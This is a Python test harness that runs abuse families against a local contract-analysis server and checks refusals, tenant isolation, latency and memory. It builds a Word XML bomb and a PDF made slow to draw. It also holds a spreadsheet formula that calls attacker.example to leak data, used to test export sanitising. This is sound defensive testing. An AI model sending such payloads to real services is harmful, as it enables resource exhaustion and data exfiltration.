"""Abuse families against a live ``clausewise serve`` process (issue 57's measures): each family
is one kind of hostile request sent ``rounds`` times at ``concurrency`` by tenant ``acme``, while
tenant ``beta`` lists its contracts every 50 ms. Per family: unexpected statuses, responses that
show a server path or the other tenant's names, the other tenant's p95 latency, and the server's
peak resident memory (with its page drawing processes) over its idle size; after all of them,
whether acme's contract is still there, unchanged (nothing lost).

The server runs with tight limits so each abuse is cheap to send and quick to refuse:
``parsing.max_parse_seconds`` 1, ``parsing.max_unpacked_mb`` 3, ``parsing.max_file_mb`` 2,
``service.page_image_cpu_seconds`` 1.
Bounded: ``rounds`` requests per family, ``SECONDS`` in all.
"""

from __future__ import annotations

import io
import json
import socket
import statistics
import threading
import time
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx

from clausewise.core.config import Settings, with_overrides
from clausewise.core.progress import NoProgress, Progress
from clausewise.evals.processes import ServeProcess, ended_job, status_kb
from clausewise.service.keys import KeyStore

SECONDS = 900.0
EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
#: The longest wait for one job of a family (or of the set-up) to end.
JOB_SECONDS = 300.0
#: How soon a stream must end once its key is revoked (the stream re-checks its key every second).
REVOKED_STREAM_SECONDS = 3.0
SERVER_LIMITS = [
    "--parsing.max-parse-seconds",
    "1",
    "--parsing.max-unpacked-mb",
    "3",
    "--parsing.max-file-mb",
    "2",
    "--service.page-image-cpu-seconds",
    "1",
]


def word_file_with(body: bytes) -> bytes:
    """A real Word file (python-docx's template) whose body ends with ``body``."""
    from docx import Document

    made = io.BytesIO()
    Document().save(made)
    out = io.BytesIO()
    with zipfile.ZipFile(made) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                data = data.replace(b"</w:body>", body + b"</w:body>")
            target.writestr(item.filename, data)
    return out.getvalue()


def slow_to_draw_pdf(paths: int = 40_000) -> bytes:
    """A one-page PDF with a readable clause (so it is not OCR'd) under ``paths`` crossing vector
    strokes: cheap to store and to read, many CPU seconds to draw (40,000 took over ten)."""
    import pymupdf

    clause = (
        "This Agreement is governed by the laws of England. Each party submits to the exclusive "
        "jurisdiction of the courts of London for any dispute arising out of this Agreement. "
    )
    with pymupdf.open() as document:
        page = document.new_page(width=612, height=792)
        page.insert_textbox(pymupdf.Rect(72, 72, 540, 300), clause * 3, fontsize=11)
        strokes = "".join(
            f"{i * 7 % 600} {i * 13 % 780} m {i * 11 % 600} {i * 17 % 780} l S\n" for i in range(paths)
        )
        xref = page.get_contents()[0]
        document.update_stream(xref, document.xref_stream(xref) + b"\n0.1 w\n" + strokes.encode())
        return document.tobytes()


def status_of_head(url: str, head: str) -> int:
    """Send a request's head only (no body follows) and read the status: answered on the headers
    alone, or 0 when the server waits for a body instead."""
    parts = urlsplit(url)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as raw:
        raw.sendall(head.replace("\n", "\r\n").encode("latin-1") + b"\r\n")
        try:
            return int(raw.recv(64).split(b" ")[1])
        except (TimeoutError, IndexError, ValueError):
            return 0


Answer = tuple[int, str]  # (status, text); a family's own failure (a live formula, a stream that
# outlived its key) is reported as status 0, which no family expects


@dataclass(frozen=True)
class Family:
    name: str
    expected: frozenset[int]
    send: Callable[[httpx.Client, str, str], Answer]  # (client, url, acme's key) -> (status, text)
    #: after every round: how many of the answers lost or mixed up what was sent (None: nothing to count)
    lost: Callable[[httpx.Client, list[Answer]], int] | None = None


_FORMULA = '=HYPERLINK("http://attacker.example/?leak","click")'
_FORMULA_START = ("=", "+", "-", "@")


def live_formulas(csv_text: str, xlsx: bytes) -> int:
    """Cells a spreadsheet would run: CSV cells starting like a formula, XLSX cells typed as one
    (read here with the csv module and openpyxl, not with the product's writer)."""
    import csv

    from openpyxl import load_workbook

    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    live = sum(cell.startswith(_FORMULA_START) for cell in cells)
    workbook = load_workbook(io.BytesIO(xlsx))
    for sheet in workbook.worksheets:
        live += sum(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    return live


def _families(keys: KeyStore) -> list[Family]:
    slow = word_file_with(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 40_000)
    bomb = word_file_with(b"<w:p/>" * 600_000)
    malformed = word_file_with(b"<w:p><w:r><w:t>unclosed</w:r></w:p>")

    def upload(data: bytes, name: str) -> Callable[[httpx.Client, str, str], tuple[int, str]]:
        def send(client: httpx.Client, _url: str, _key: str) -> tuple[int, str]:
            response = client.post("/v1/contracts", files={"file": (name, data)})
            return response.status_code, response.text

        return send

    def headers_only(head: str, keyed: bool) -> Callable[[httpx.Client, str, str], tuple[int, str]]:
        def send(_client: httpx.Client, url: str, key: str) -> tuple[int, str]:
            host = urlsplit(url).netloc
            auth = f"Authorization: Bearer {key}\n" if keyed else ""
            return status_of_head(url, head.format(host=host) + auth), ""

        return send

    def request(method: str, path: str, **kwargs: Any) -> Callable[[httpx.Client, str, str], tuple[int, str]]:
        def send(client: httpx.Client, _url: str, _key: str) -> tuple[int, str]:
            response = client.request(method, path, **kwargs)
            return response.status_code, response.text

        return send

    def formula_export(client: httpx.Client, _url: str, _key: str) -> Answer:
        queued = client.post("/v1/checks", json={"contracts": ["acme-nda"], "hypotheses": [_FORMULA]})
        if queued.status_code != 202:
            return queued.status_code, queued.text
        job = ended_job(client, queued.json()["id"], time.monotonic() + JOB_SECONDS)["id"]
        as_csv = client.get(f"/v1/jobs/{job}/result", params={"format": "csv"})
        as_xlsx = client.get(f"/v1/jobs/{job}/result", params={"format": "xlsx"})
        if as_csv.status_code != 200 or as_xlsx.status_code != 200:
            return max(as_csv.status_code, as_xlsx.status_code), as_csv.text
        return (0 if live_formulas(as_csv.text, as_xlsx.content) else 200), as_csv.text

    def revoked_mid_stream(client: httpx.Client, url: str, _key: str) -> Answer:
        """A key revoked while its stream of a running job is open: the stream must end within
        REVOKED_STREAM_SECONDS with an ``error`` event (status 0 otherwise)."""
        info, secret = keys.create("acme", "revoked mid-stream")
        headers = {"Authorization": f"Bearer {secret}"}
        with httpx.Client(base_url=url, headers=headers, timeout=30) as mine:
            queued = mine.post("/v1/checks", json={"contracts": ["acme-nda"], "suite": "nda"})
            if queued.status_code != 202:
                return queued.status_code, queued.text
            revoked: list[float] = []
            timer = threading.Timer(0.5, lambda: (keys.revoke(info.id), revoked.append(time.monotonic())))
            events = []
            with mine.stream("GET", f"/v1/jobs/{queued.json()['id']}/events") as stream:
                timer.start()
                events = [line for line in stream.iter_lines() if line.startswith("event:")]
            timer.join()
            ended = time.monotonic() - revoked[0] if revoked else None
        errored = bool(events) and events[-1].split(":", 1)[1].strip() == "error"
        in_time = ended is not None and ended <= REVOKED_STREAM_SECONDS
        return (200 if errored and in_time else 0), ""

    nda = (EXAMPLES / "mutual-nda.txt").read_text(encoding="utf-8")
    colliding_names = ("§§§.txt", "合同.txt", "契約.txt", "###.txt")
    sent = iter(range(1_000_000))

    def colliding_upload(client: httpx.Client, _url: str, _key: str) -> Answer:
        number = next(sent)
        text = nda + f"\n\nSchedule {number}: marker-{number:06d}.\n"
        name = colliding_names[number % len(colliding_names)]
        response = client.post("/v1/contracts", files={"file": (name, text.encode())})
        return response.status_code, f"marker-{number:06d} " + response.text

    def mixed_up(client: httpx.Client, answers: list[Answer]) -> int:
        """Uploads accepted (202) whose contract is missing, shared with another upload, or
        holds another upload's text."""
        problems, owners = 0, {}
        for status, text in answers:
            if status != 202:
                continue
            marker, body = text.split(" ", 1)
            job = ended_job(client, json.loads(body)["job"]["id"], time.monotonic() + JOB_SECONDS)
            contract = (job.get("result") or {}).get("contract_id")
            if job["status"] != "done" or contract is None or contract in owners:
                problems += 1
                continue
            owners[contract] = marker
            problems += marker not in client.get(f"/v1/contracts/{contract}/text").text
        return problems

    multipart = "POST /v1/contracts HTTP/1.1\nHost: {host}\nContent-Type: multipart/form-data; boundary=b\n"
    chat = {
        "model": "clausewise/acme-nda",
        "messages": [{"role": "system", "content": "Be brief. " * 1000}, {"role": "user", "content": "Law?"}],
    }
    return [
        Family(
            "a 256 MB body without a key",
            frozenset({401}),
            headers_only(multipart + "Content-Length: 268435456\n", False),
        ),
        Family(
            "a 300 MB upload announced",
            frozenset({413}),
            headers_only(multipart + "Content-Length: 314572800\n", True),
        ),
        Family(
            "a foreign Host",
            frozenset({421}),
            request("GET", "/v1/contracts", headers={"Host": "attacker.example"}),
        ),
        Family(
            "a cross-site POST",
            frozenset({403}),
            request(
                "POST",
                "/v1/threads",
                json={"contract": "acme-nda"},
                headers={"Origin": "http://attacker.example"},
            ),
        ),
        Family("a Word file slow to read", frozenset({422}), upload(slow, "slow.docx")),
        Family("an XML bomb", frozenset({413}), upload(bomb, "bomb.docx")),
        Family("malformed Word XML", frozenset({422}), upload(malformed, "malformed.docx")),
        Family(
            "a 10,000-character system message",
            frozenset({422}),
            request("POST", "/v1/chat/completions", json=chat),
        ),
        Family(
            "a revoked-looking key",
            frozenset({401}),
            request("GET", "/v1/contracts", headers={"Authorization": "Bearer cw_00000000_" + "0" * 43}),
        ),
        Family(
            "a 14,400 pt page's image",
            frozenset({200}),
            request("GET", "/v1/contracts/acme-poster/pages/1/image"),
        ),
        Family(
            "a page built to be slow to draw",
            frozenset({422}),
            request("GET", "/v1/contracts/acme-strokes/pages/1/image"),
        ),
        Family("a key revoked while its stream is open", frozenset({200}), revoked_mid_stream),
        Family("a hypothesis written as a formula, exported", frozenset({200}), formula_export),
        Family(
            "different files whose names make the same id, at once",
            frozenset({202, 409}),
            colliding_upload,
            lost=mixed_up,
        ),
        Family(
            "a queue flood",
            frozenset({202, 429}),
            request("POST", "/v1/checks", json={"contracts": ["acme-nda"], "suite": "nda"}),
        ),
    ]


def _poster() -> bytes:
    """A one-page PDF drawn 14,400 points square (its image at the viewer's scale was a 500)."""
    import pymupdf

    with pymupdf.open() as document:
        page = document.new_page(width=14400, height=14400)
        page.insert_text((72, 144), "This Agreement is governed by the laws of England.", fontsize=48)
        return document.tobytes()


def _rss_mb(pid: int) -> float:
    """The resident memory of the server ``pid`` and of every process under it (its page drawing
    workers), in MB."""
    own = status_kb(pid, "VmRSS")
    if own is None:
        raise RuntimeError("no VmRSS in /proc: memory is measured on Linux only")
    return (own + sum(status_kb(child, "VmRSS") or 0 for child in _descendants(pid))) / 1024


def _descendants(pid: int) -> list[int]:
    """The processes under ``pid``, read from /proc (one that ends while being read is left out)."""
    children: list[int] = []
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            children.extend(int(child) for child in (task / "children").read_text().split())
        except (FileNotFoundError, ProcessLookupError):
            continue
    return children + [grandchild for child in children for grandchild in _descendants(child)]


def _p95(values: list[float]) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    return round(ordered[min(len(ordered) - 1, int(0.95 * len(ordered)))], 3)


def run(
    settings: Settings,
    data_dir: Path,
    *,
    rounds: int = 20,
    concurrency: int = 4,
    progress: Progress | None = None,
) -> dict[str, Any]:
    """Every family against a ``clausewise serve`` process on ``data_dir`` (see the module)."""
    progress = progress or NoProgress()
    deadline = time.monotonic() + SECONDS
    settings = with_overrides(settings, {"paths": {"data_dir": str(data_dir), "tenant": "default"}})
    keys = KeyStore.of(settings)
    acme, beta = keys.create("acme", "eval abuse")[1], keys.create("beta", "eval abuse")[1]
    rows: list[dict[str, Any]] = []
    with ServeProcess(settings, data_dir / "serve.log", extra=SERVER_LIMITS) as server:
        assert server.process is not None
        pid = server.process.pid
        owner = httpx.Client(base_url=server.url, timeout=60, headers={"Authorization": f"Bearer {acme}"})
        other = httpx.Client(base_url=server.url, timeout=60, headers={"Authorization": f"Bearer {beta}"})
        try:
            nda = (EXAMPLES / "mutual-nda.txt").read_bytes()
            ingest = owner.post(
                "/v1/contracts", files={"file": ("nda.txt", nda)}, data={"contract_id": "acme-nda"}
            )
            job = ingest.json()["job"]["id"]
            ended_job(owner, job, time.monotonic() + JOB_SECONDS)
            poster = owner.post(
                "/v1/contracts",
                files={"file": ("poster.pdf", _poster())},
                data={"contract_id": "acme-poster"},
            ).json()["job"]["id"]
            strokes = owner.post(
                "/v1/contracts",
                files={"file": ("strokes.pdf", slow_to_draw_pdf())},
                data={"contract_id": "acme-strokes"},
            ).json()["job"]["id"]
            theirs = other.post(
                "/v1/contracts", files={"file": ("beta.txt", nda)}, data={"contract_id": "beta-nda"}
            ).json()["job"]["id"]
            for client, waited in ((owner, poster), (owner, strokes), (other, theirs)):
                ended_job(client, waited, time.monotonic() + JOB_SECONDS)
            before = owner.get("/v1/contracts/acme-nda/text").text
            for family in _families(keys):
                if time.monotonic() > deadline:
                    break
                progress.stage(f"abuse: {family.name}, {rounds} at {concurrency}")
                rows.append(
                    _one_family(family, server.url, owner, other, acme, pid, rounds, concurrency, data_dir)
                )
            after = owner.get("/v1/contracts/acme-nda/text").text
            # after the flood: the other tenant's job is next among its own, whatever acme queued
            turn = other.post("/v1/checks", json={"contracts": ["beta-nda"], "suite": "nda"}).json()
            queue_position = turn.get("queue_position")
            for queued in owner.get("/v1/jobs?limit=1000").json()["jobs"]:
                if queued["status"] in ("queued", "running"):
                    owner.post(f"/v1/jobs/{queued['id']}/cancel")
        finally:
            owner.close()
            other.close()
    return {
        "rounds": rounds,
        "concurrency": concurrency,
        "families": rows,
        "unexpected_statuses": sum(r["unexpected"] for r in rows),
        "leaks": sum(r["leaks"] for r in rows),
        "lost": int(before != after) + sum(r["lost"] for r in rows),
        "other_tenant_queue_position_after_flood": queue_position,
        "other_tenant_p95_max": max((r["other_p95_s"] or 0.0 for r in rows), default=None),
        "peak_over_idle_max_mb": max((r["peak_over_idle_mb"] for r in rows), default=None),
    }


def _one_family(
    family: Family,
    url: str,
    owner: httpx.Client,
    other: httpx.Client,
    key: str,
    pid: int,
    rounds: int,
    concurrency: int,
    data_dir: Path,
) -> dict[str, Any]:
    idle = _rss_mb(pid)
    peak = idle
    latencies: list[float] = []
    running = threading.Event()
    running.set()

    def watch() -> None:
        nonlocal peak
        while running.is_set():
            started = time.perf_counter()
            other.get("/v1/contracts")
            latencies.append(time.perf_counter() - started)
            peak = max(peak, _rss_mb(pid))
            time.sleep(0.05)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    with ThreadPoolExecutor(max_workers=concurrency) as pool:
        answers = list(pool.map(lambda _n: family.send(owner, url, key), range(rounds)))
    running.clear()
    watcher.join(30)
    statuses = [status for status, _ in answers]
    shown = [text for _, text in answers if str(data_dir) in text or "beta-nda" in text]
    lost = family.lost(owner, answers) if family.lost is not None else 0
    return {
        "family": family.name,
        "requests": len(answers),
        "statuses": sorted(set(statuses)),
        "unexpected": sum(status not in family.expected for status in statuses),
        "leaks": len(shown),
        "lost": lost,
        "other_requests": len(latencies),
        "other_p95_s": _p95(latencies),
        "other_median_s": round(statistics.median(latencies), 3) if latencies else None,
        "peak_over_idle_mb": round(peak - idle, 1),
    }
